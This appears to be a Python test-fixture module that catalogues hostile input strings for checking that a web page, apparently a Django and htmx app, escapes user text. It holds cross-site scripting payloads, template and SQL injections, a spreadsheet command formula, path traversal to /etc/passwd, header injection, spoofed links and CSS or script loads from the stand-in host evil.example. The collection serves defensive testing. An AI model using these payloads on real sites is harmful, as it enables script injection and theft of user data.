"""Texts that somebody may put into a conversation to make a page do what it should not.

Whatever runs calls `alert`; whatever loads asks `evil.example`.
"""

from collections.abc import Iterator
from typing import Final

EVIL: Final = "http://evil.example"

SCRIPTS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script>alert`1`</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<script src=//{EVIL[7:]}/x.js></script>",
    f'<script type="module">import "{EVIL}/x.js"</script>',
    '<script type="importmap">{"imports": {"x": "data:text/javascript,alert(1)"}}</script>',
    '<script type="speculationrules">{"prefetch": [{"urls": ["http://evil.example/"]}]}</script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<script x='>' >alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--!><script>alert(1)</script>",
    "<script nonce='' integrity=''>alert(1)</script>",
)
SVG: Final = (
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>press</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'/></svg>",
    f"<svg><image href={EVIL}/x.png /></svg>",
    f"<svg><feImage href={EVIL}/x.png /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><style>*{background:url(http://evil.example/x)}</style></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>press</math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></math>",
)
_EVENTS: Final = (
    *("abort", "animationend", "animationstart", "auxclick", "beforetoggle", "blur", "canplay"),
    *("click", "contentvisibilityautostatechange", "contextmenu", "cut", "error", "focus"),
    *("focusin", "hashchange", "input", "keydown", "load", "loadstart", "message", "mouseover"),
    *("pageshow", "paste", "pointerenter", "pointerrawupdate", "scroll", "scrollend"),
    *("securitypolicyviolation", "toggle", "touchstart", "transitionend", "unload", "wheel"),
)
EVENTS: Final = (
    *(f"<img src=x on{name}=alert(1) autofocus tabindex=0>" for name in _EVENTS),
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<a href=# onclick=alert(1)>press</a>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "<button popovertarget=x>press</button><p popover id=x onbeforetoggle=alert(1)>",
)
ATTRIBUTES: Final = (
    *('" onmouseover=alert(1) x="', "' onmouseover=alert(1) x='", "` onmouseover=alert(1) x=`"),
    *('" autofocus onfocus=alert(1) x="', "' autofocus onfocus=alert(1) x='"),
    *('"/onload=alert(1)/x="', 'x"onerror="alert(1)', "x' style='display:none", 'x" hidden x="'),
    *('" hx-get="/accounts/logout/" x="', '" data-poll-seconds="1" x="', '" data-copy="x" x="'),
    *('" id="main" x="', "\" class='failure", '" href="javascript:alert(1)', "=\"x'`>"),
    *('" dir="rtl" x="', '" name="csrfmiddlewaretoken" value="x', "\t\n onclick=alert(1)"),
)
_SCHEMES: Final = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "javascript&#58;alert(1)",
    ),
    *("javascript://evil.example/%0aalert(1)", "data:text/html,<script>alert(1)</script>"),
    *("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)"),
    *("blob:http://evil.example/1", "view-source:http://evil.example", "file:///etc/passwd"),
    *("ftp://evil.example/x", "intent://evil.example#Intent;end", "mailto:alice@evil.example"),
)
SCHEMES: Final = (
    *_SCHEMES,
    *(f'<a href="{scheme}">press</a>' for scheme in _SCHEMES),
    *(f"[press]({scheme})" for scheme in _SCHEMES[:6]),
)
TEMPLATES: Final = (
    *("{{ 7*7 }}", "{{ settings.SECRET_KEY }}", "{% csrf_token %}", "{% debug %}", "{# x #}"),
    *(
        "{% include 'base.html' %}",
        "{% load static %}{% static 'x' %}",
        "{{ user|safe }}",
        "{{{x}}}",
    ),
    *("${7*7}", "#{7*7}", "<%= 7*7 %>", "*{7*7}", "@(7*7)", "{{constructor.constructor('x')()}}"),
    *("%(value)s", "%(default)d", "%s %d %n", "%%(x)s", "{0.__class__}", "{request.user}", "%"),
    *("{x!r:>{y}}", "$(id)", "`id`", "\\1\\g<0>", "__proto__.x", "{%"),
)
HTMX: Final = (
    '<div hx-get="/accounts/logout/" hx-trigger="load"></div>',
    '<div data-hx-get="/accounts/logout/" data-hx-trigger="load"></div>',
    '<div hx-post="/accounts/logout/" hx-trigger="revealed"></div>',
    f'<div hx-get="{EVIL}/" hx-trigger="load"></div>',
    '<div hx-on:load="alert(1)" hx-on::load="alert(1)"></div>',
    '<div data-hx-on-click="alert(1)">press</div>',
    "<div hx-vals='js:{x: alert(1)}' hx-get='/' hx-trigger='load'></div>",
    "<div hx-trigger='load[alert(1)]' hx-get='/'></div>",
    '<div hx-swap-oob="innerHTML:#main">gone</div>',
    '<p id="announcement" hx-swap-oob="true">gone</p>',
    '<p id="facts" hx-swap-oob="outerHTML"></p>',
    '<p id="live" data-poll-seconds="1" hx-get="/" hx-trigger="poll"></p>',
    '<meta name="htmx-config" content=\'{"allowEval":true,"selfRequestsOnly":false}\'>',
    '<meta name=htmx-config content={"historyCacheSize":99}>',
    '<div hx-ext="x" hx-boost="true"><a href="/accounts/logout/">press</a></div>',
    "<div hx-history-elt></div><div hx-disable></div>",
    '<div hx-target="body" hx-select="title" hx-push-url="/x"></div>',
    '<div hx-headers=\'{"X": "y"}\' hx-include="*" hx-params="*"></div>',
    '<div hx-preserve id="main"></div>',
    '<div ws-connect="ws://evil.example/" sse-connect="http://evil.example/"></div>',
    '<template hx-swap-oob="true"><p id="main"></p></template>',
    "<head><title>gone</title></head>",
    "<title>gone</title>",
    "<!doctype html><html><body>gone",
    "HX-Redirect: http://evil.example/",
)
STYLES: Final = (
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<style>*{{background:url({EVIL}/x)}}</style>",
    "<style>body{display:none}</style>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=preload as=script href={EVIL}/x.js>",
    f"<link rel=dns-prefetch href={EVIL}>",
    f"<link rel=icon href={EVIL}/x.ico>",
    f"<p style='background:url({EVIL}/x)'>x</p>",
    "<p style=position:fixed;inset:0>x</p>",
    "x'; display: none; '",
    "</style/><img src=x onerror=alert(1)>",
    "expression(alert(1))",
    f"@font-face{{font-family:x;src:url({EVIL}/x)}}",
    "input[value^=a]{background:url(http://evil.example/a)}",
    "-moz-binding:url(http://evil.example/x#y)",
    "behavior:url(#default#time2)",
    "\\3c script\\3e alert(1)",
)
ENDINGS: Final = (
    *(
        f"</{tag}><img src=x onerror=alert(1)>"
        for tag in (
            *("title", "template", "textarea", "select", "option", "bdi", "table", "dl", "summary"),
            *("main", "body", "html", "noscript", "style", "svg", "p", "aside", "xmp", "noembed"),
        )
    ),
    *("<!--", "-->", "--!>", "<!-- --!> x", "<![CDATA[", "]]>", "<?php alert(1) ?>", "<?xml?>"),
    *("<plaintext>", "<xmp>", "<textarea>", "<noscript>", "<template>", "<select>", "<table><td>"),
    *("<", ">", "</", "<>", "</>", "< script >", "<a", "<a href='", '<a href="', "</ >"),
)
ENTITIES: Final = (
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    *(
        "&#x3c;img src=x onerror=alert(1)&#x3e;",
        "&amp;lt;b&amp;gt;",
        "&amp;amp;",
        "&nbsp;",
        "&notit;",
    ),
    *("&", "&;", "&#;", "&#0;", "&#x110000;", "&#xd800;", "&lt", "&ltscript&gt", "&quot;&apos;"),
    *("&NewLine;&Tab;", "&ZeroWidthSpace;", "AT&T &copy 2026"),
)
FRAMES: Final = (
    *(f"<iframe src={EVIL}/></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
    *(
        "<iframe src=javascript:alert(1)>",
        f"<object data={EVIL}/></object>",
        f"<embed src={EVIL}/>",
    ),
    *(f"<frameset><frame src={EVIL}/></frameset>", f"<portal src={EVIL}/></portal>"),
    *(
        f"<form action={EVIL}/><button>press</button></form>",
        f"<button formaction={EVIL}/>press</button>",
    ),
    *("<form id=failure><input name=hidden></form>", "<input type=password name=password>"),
    *(
        f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
        f"<base href={EVIL}/>",
        "<base target=x>",
    ),
    *("<meta http-equiv=set-cookie content=x=1>", "<meta name=referrer content=unsafe-url>"),
    *(f"<img src={EVIL}/x.png>", f"<img srcset='{EVIL}/x.png 1x'>", f"<video poster={EVIL}/x.png>"),
    *(
        f"<track src={EVIL}/x.vtt>",
        f"<a ping={EVIL}/ href=/>press</a>",
        f"<isindex action={EVIL}/>",
    ),
    *("<img name=htmx id=htmx>", "<form name=getElementById></form>", "<dialog open>x</dialog>"),
    *("<applet code=x>", "<keygen autofocus>", "<slot name=x>", "<p is=x-y shadowrootmode=open>"),
)
ENCODINGS: Final = (
    *("＜script＞alert(1)＜/script＞", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    *(
        "\\u003cscript\\u003ealert(1)",
        "\\x3cscript\\x3ealert(1)",
        "%3Cscript%3Ealert(1)%3C/script%3E",
    ),
    *("%253Cscript%253E", "Â¼scriptÂ¾alert(1)Â¼/scriptÂ¾", "ÀŒscript", "‹script›alert(1)‹/script›"),
    *(
        "ŠŒ<script>",
        "ſcript <ſcript>alert(1)</ſcript>",
        "\ufeff<script>alert(1)</script>",
        "K İ ﬁ ß",
    ),
)
CONTROLS: Final = (
    *(f"control {number:02x} {chr(number)} here" for number in range(0x20)),
    *(
        f"control {number:02x} {chr(number)} here"
        for number in (0x7F, 0x80, 0x85, 0x8D, 0x9B, 0x9F)
    ),
    *(
        f"sign {ord(sign):x} {sign} here"
        for sign in "\u00a0\u00ad\u200b\u200d\u2028\u2029\ufeff\ufffc"
    ),
    *("not a character \ufdd0", "not a character \ufffe", "not a character \U0010ffff"),
    *(
        "\x1b[31mred\x1b[0m",
        "\x1b]0;title\x07",
        "<scr\x00ipt>alert(1)</script>",
        "\x00",
        "\x01\x02",
    ),
    *("<img\x0csrc=x\x0conerror=alert(1)>", "line\r\nline\rline\nline", "\u0600\U000e0041 tags"),
)
_DIRECTIONS: Final = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
DIRECTIONS: Final = (
    *(f"direction {ord(mark):x} {mark}txt.exe" for mark in _DIRECTIONS),
    *(
        "invoice\u202efdp.exe",
        "\u202e" * 130 + "deep",
        "\u2067" * 130 + "deeper",
        "\u2069\u202c\u202d end",
    ),
    *("שלום <b>עולם</b>", "abc مرحبا (1) def"),
)
SURROGATES: Final = (
    "high \ud800 alone",
    "low \udfff alone",
    "\ude00\ud83d reversed",
    "ends with \udbff",
)
MARKS: Final = (
    "Z\u0351\u036b\u0343" + "\u0335" * 40 + "algo",
    "e" + "\u0301" * 500,
    "\u20dd\u20e3\u0489" * 30,
    "👩‍👩‍👧‍👦" * 20,
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿🇬🇧",
    "﷽" * 10,
    "𝕋𝕖𝕩𝕥 𝒾𝓃 𝔉𝔯𝔞𝔨𝔱𝔲𝔯",
    "ต้้้้้้้้้้้้้้้้้้้้้้้้้",
    "Ａｌｉｃｅ",
    "W" * 400,
    "\u3000wide\u2003spaces\u2009",
    "line\n" * 60,
)
LINKS: Final = (
    *(
        "https://alice:secret@evil.example/",
        "https://example.com@evil.example/",
        "http://xn--pple-43d.com/",
    ),
    *(
        "https://аpple.com/",
        "http://evil.example\\@example.com/",
        "https://example.com%2f@evil.example/",
    ),
    *(
        "http://[::1]/",
        "http://[broken",
        "http://a.b:99999999/",
        "http:////evil.example",
        "//evil.example",
    ),
    *('https://evil.example/"onclick="alert(1)', "http://evil.example/<script>alert(1)</script>"),
    *(
        "https://evil.example/?a=1&b=2&lt;3",
        "https://evil.example/'x'",
        "http://evil.example/a)b].,!",
    ),
    *("https://evil.example/\u202etxt.exe", "https://evil.example/javascript:alert(1)", "http://"),
    *("https://evil.example/" + "a" * 1_500, "https://evil.example#@example.com", "http://0x7f.1/"),
    *(
        "see https://evil.example/1, http://evil.example/2 and\nhttps://evil.example/3",
        "HTTPS://EVIL.EXAMPLE",
    ),
    *(
        "https://evil.example/\x00nul",
        "http://evil.example:80\\@x",
        "javascript:https://evil.example/",
    ),
)
INJECTIONS: Final = (
    *("' OR 1=1 --", "'; DROP TABLE person; --", "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1", "-1"),
    *(
        "../../../../etc/passwd",
        "..%2f..%2f",
        "C:\\x",
        "null",
        "undefined",
        "NaN",
        "[object Object]",
    ),
    *(
        "__proto__",
        "constructor",
        "toString",
        "1e999",
        "0x7fffffff",
        "true",
        "{}",
        "[]",
        '"',
        "'",
        "\\",
    ),
    *(
        '{"id": "x"}',
        "a\tb",
        "Set-Cookie: x=1",
        "x\r\nLocation: http://evil.example/",
        "__import__('os')",
    ),
)

FAMILIES: Final = {
    "script": SCRIPTS,
    "svg": SVG,
    "event": EVENTS,
    "attribute": ATTRIBUTES,
    "scheme": SCHEMES,
    "template": TEMPLATES,
    "htmx": HTMX,
    "style": STYLES,
    "ending": ENDINGS,
    "entity": ENTITIES,
    "frame": FRAMES,
    "encoding": ENCODINGS,
    "control": CONTROLS,
    "direction": DIRECTIONS,
    "surrogate": SURROGATES,
    "mark": MARKS,
    "link": LINKS,
    "injection": INJECTIONS,
}


def _named() -> Iterator[tuple[str, str]]:
    for family, texts in FAMILIES.items():
        for number, text in enumerate(texts, 1):
            yield f"{family} {number}", text


PAYLOADS: Final = dict(_named())
TEXTS: Final = tuple(PAYLOADS.values())
LONG_LINE: Final = "<b>" + "x" * 1_000_000
LONG_TEXT: Final = ("<b>&amp; ten megabytes" + "\n") * 455_000
